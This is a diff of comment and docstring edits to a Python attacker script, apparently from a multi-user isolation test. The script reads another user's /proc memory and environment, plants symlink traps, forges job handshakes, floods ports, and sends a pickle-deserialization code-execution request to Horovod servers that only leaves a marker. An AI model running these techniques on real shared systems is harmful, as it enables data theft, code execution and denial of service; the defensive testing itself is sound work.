@@ -1,13 +1,13 @@
 # SPDX-License-Identifier: Apache-2.0
 """Plays a user without rights on a node of another user's job: tries to read, change or stop it.
 
-usage: attacker.py LOOT UID plant NAME...       puts links to LOOT.trap there
+usage: attacker.py LOOT UID plant NAME...       makes links NAME to LOOT.trap
        attacker.py LOOT UID once [PORT]         tries everything on the processes of UID
-       attacker.py LOOT UID until FILE [PORT]   ports and sockets only, again and again
-       attacker.py LOOT UID flood PORT COUNT    COUNT connections that say nothing
+       attacker.py LOOT UID until FILE [PORT]   attacks ports and sockets until FILE exists
+       attacker.py LOOT UID flood PORT COUNT    opens COUNT connections that send nothing
 
-Prints a line for each attempt: KIND, what, and what came of it, which is "GOT ..." where something
-was open. Everything that was read is in LOOT. Without PORT it talks to all ports on which UID listens."""
+Prints a line for each attempt: its kind, its target, and the result, which is "GOT ..." if something was open.
+All data that it could read go to LOOT. Without PORT it attacks all ports on which UID listens."""
 
 import base64
 import contextlib
@@ -35,10 +35,10 @@ PADDING = 4  # behind the proof in a challenge
 PUBLIC = ('cmdline', 'status', 'stat', 'comm', 'limits', 'cgroup', 'sched', 'wchan')
 PRIVATE = ('environ', 'mem', 'maps', 'smaps', 'auxv', 'syscall', 'stack', 'io', 'pagemap', 'personality')
 PLACES = ('/dev/shm', '/dev/mqueue', '/tmp', '/var/tmp', '/run', '/run/lock')
-MOST_BYTES = 1 << 20 # of one file or mapping
+MOST_BYTES = 1 << 20 # read from one file or mapping
 MOST_FDS = 64
 ANSWER_S = 0.3 # how long to listen
-CONNECT_S = 0.5 # what is let in is let in at once
+CONNECT_S = 0.5 # an open port accepts at once
 HELD = 1000 # connections of a flood at a time
 
 loot = None
@@ -49,7 +49,7 @@ def tell(kind, what, outcome):
 
 
 def attempt(kind, what, function):
-    """The function's result is what was got; nothing, or an error: it was refused."""
+    """Prints what the function got; an empty result or an error means that it was denied."""
     try:
         got = function()
     except OSError as error:
@@ -112,7 +112,7 @@ class Vector(ctypes.Structure):
 
 
 def copy_memory(function, pid):
-    """An address that is not mapped would be EFAULT, but rights are looked at first."""
+    """Copies memory. The kernel checks rights first, so an address that is not mapped matters only with rights."""
     data = ctypes.create_string_buffer(64)
     try:
         first = next(writable_mappings(pid))[0]
@@ -225,7 +225,7 @@ def plant(trap, names):
 # --- sockets ---
 
 def address_of(text):
-    """As /proc/net/tcp and tcp6 have it."""
+    """Decodes an address of /proc/net/tcp or tcp6."""
     host, port = text.split(':')
     data = struct.pack(f'={len(host) // 8}I', *(int(host[i:i + 8], 16) for i in range(0, len(host), 8)))
     family = socket.AF_INET if len(data) == 4 else socket.AF_INET6
@@ -233,7 +233,7 @@ def address_of(text):
 
 
 def listening(uid, port):
-    """(family, address) of the sockets of uid, or of that port."""
+    """Yields (family, address) of the listening sockets of uid, or of those on the port."""
     for name in ('tcp', 'tcp6'):
         with open(f'/proc/net/{name}', encoding='ascii') as table:
             for line in list(table)[1:]:
@@ -252,7 +252,7 @@ def abstract_names():
 
 
 def hear(peer):
-    """What it says, which may come with descriptors."""
+    """Receives data from the peer, and descriptors that come with them."""
     if not select.select([peer], [], [], ANSWER_S)[0]:
         return b''
     if peer.family != socket.AF_UNIX:
@@ -284,7 +284,7 @@ def say(peer, data):
 
 
 def reflect(peers):
-    """Says to each what the one before it, which may be itself, has said."""
+    """Sends each peer the data of the peer before it; a single peer gets its own back."""
     heard = [hear(peer) for peer in peers]
     for _ in range(3):
         heard = [say(peer, heard[i - 1]) for i, peer in enumerate(peers)]
@@ -295,12 +295,12 @@ def frame(kind, payload):
 
 
 def hello(parent):
-    """Of another rank of the job."""
+    """Makes the hello of another rank of the job."""
     return frame(HELLO, struct.pack('<IiiI', 0x33647668, (parent + 1) % RANKS, parent, 0) + bytes(32))
 
 
 def forge(connect, parent, rng):
-    """Whether a rank welcomes one that gives back the rank's own proof, or one of chance."""
+    """Tries to join with the rank's own proof and with a random one. Returns text if the rank accepts either."""
     for proof in (None, rng.randbytes(PROOF_BYTES)):
         with connect() as peer:
             challenge = say(peer, hello(parent))
@@ -311,20 +311,20 @@ def forge(connect, parent, rng):
 
 
 class Evil:
-    """Executes code where it is unpickled: leaves LOOT.executed."""
+    """Executes code when it is unpickled: makes LOOT.executed."""
 
     def __reduce__(self):
         return os.mkdir, (f'{loot.name}.executed',)
 
 
 def put(path):
-    """The request that attacks Horovod's servers: see tests/python/horovod_cves_check.py."""
+    """Makes the request that attacks Horovod's servers: see tests/python/horovod_cves_check.py."""
     body = base64.b64encode(pickle.dumps(Evil()))
     return f'PUT {path} HTTP/1.1\r\nHost: n1\r\nContent-Length: {len(body)}\r\n\r\n'.encode() + body
 
 
 def attack_socket(kind, what, connect, rng, recorded):
-    """recorded: what earlier connections were told."""
+    """Tries all attacks on one socket. recorded: data from earlier connections, for replay."""
     def tries(data):
         with connect() as peer:
             recorded.append(say(peer, data))
@@ -360,7 +360,7 @@ def attack_sockets(uid, port, rng):
 
 
 def flood(port, count):
-    """Holds as many as it may have, closes the oldest for another."""
+    """Opens count connections; holds as many as possible, and closes the oldest for a new one."""
     most = min(HELD, resource.getrlimit(resource.RLIMIT_NOFILE)[0] - 50)
     peers = []
     for _ in range(count):
